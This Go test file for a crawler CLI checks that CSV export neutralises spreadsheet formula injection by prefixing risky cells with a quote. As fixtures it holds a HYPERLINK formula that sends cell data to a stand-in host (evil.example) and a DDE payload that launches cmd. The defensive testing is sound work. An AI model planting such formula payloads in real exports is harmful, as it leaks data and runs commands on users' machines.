package cli_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"

	"github.com/fleetwright/fleetwright/app/db"
	"github.com/fleetwright/fleetwright/modules/crawl"
	"github.com/fleetwright/fleetwright/modules/crawl/spec"
)

// Scraped cells a spreadsheet would run as formulas come out of
// `fleetwright crawl items --format csv` as text; a plain negative number
// stays a number.
func TestCrawlItemsCSVWritesFormulasAsText(t *testing.T) {
	b := setup(t)
	ctx := context.Background()
	r := b.run(t, "", "crawl", "apply", "../../examples/crawl/catalogue-http.yaml", "--tenant=acme")
	require.Equal(t, 0, r.code, r)
	st := crawl.NewStore(b.d.App, spec.Options{})
	job, err := st.JobByName(ctx, b.acme.ID, "catalogue-http")
	require.NoError(t, err)
	var run string
	require.NoError(t, db.InTenant(ctx, b.d.App, b.acme.ID, func(tx pgx.Tx) error {
		return tx.QueryRow(ctx, `INSERT INTO crawl_runs (tenant_id, job_id, version, state, reason, queued_at, started_at, finished_at, pages, items)
			VALUES (app_tenant(), $1, 1, 'succeeded', 'done', now(), now(), now(), 1, 1) RETURNING id`, job.ID).Scan(&run)
	}))
	evil := `=HYPERLINK("http://evil.example/?d="&A1,"open")`
	_, _, err = st.SaveItems(ctx, b.acme.ID, job.ID, run, map[string]map[string]any{
		"u1": {"url": "http://x/item/1", "title": evil, "price": -12.5, "sku": "@SUM(1+1)*cmd|' /C calc'!A0"}}, time.Now())
	require.NoError(t, err)

	r = b.run(t, "", "crawl", "items", "catalogue-http", "--tenant=acme", "--format=csv")
	require.Equal(t, 0, r.code, r)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err, r.stdout)
	require.Len(t, rows, 2)
	col := map[string]string{}
	for i, h := range rows[0] {
		col[h] = rows[1][i]
	}
	require.Equal(t, "'"+evil, col["title"])
	require.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", col["sku"])
	require.Equal(t, "-12.5", col["price"], "a number stays a number")
	require.Equal(t, "http://x/item/1", col["url"])
}
